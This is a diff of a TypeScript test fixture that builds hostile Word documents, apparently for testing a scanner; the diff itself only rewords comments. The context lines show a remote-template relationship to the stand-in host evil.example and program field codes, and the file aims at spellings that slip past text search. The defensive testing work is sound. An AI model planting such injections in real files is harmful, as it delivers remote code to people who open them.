@@ -1,4 +1,4 @@
-// Fields, links and parts of office documents in spellings that a search in the text passes by and a reader of XML does not.
+// Fields, links, and parts of Office documents in spellings that an XML parser reads and a text search misses.
 
 import { toBytes } from '../../support/file-writers/bytes.ts';
 import type { HostileFile } from './hostile-file.ts';
@@ -20,7 +20,7 @@ const outside = toRelationship(
   'Target="https://evil.example/a.dotm" TargetMode="External"',
 );
 
-/** What stands between the tags of a paragraph. */
+/** The content of a paragraph. */
 const fields: readonly (readonly [string, string])[] = [
   ['a program', `<w:instrText>${program}</w:instrText>`],
   ['a program in an attribute', `<w:fldSimple w:instr="${program.replaceAll('"', '&quot;')}"/>`],
@@ -149,7 +149,7 @@ function withRelationships(data: Uint8Array): ReturnType<typeof listDocxParts> {
   return withPart(docx, { name: 'word/_rels/settings.xml.rels', data });
 }
 
-/** Code page 37, as far as these parts need it. */
+/** Code page 37, for the characters of these parts. */
 function toEbcdic(text: string): Buffer {
   const ascii =
     ' <(+|&!$*);-/,%_>?:#@\'="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.\n';
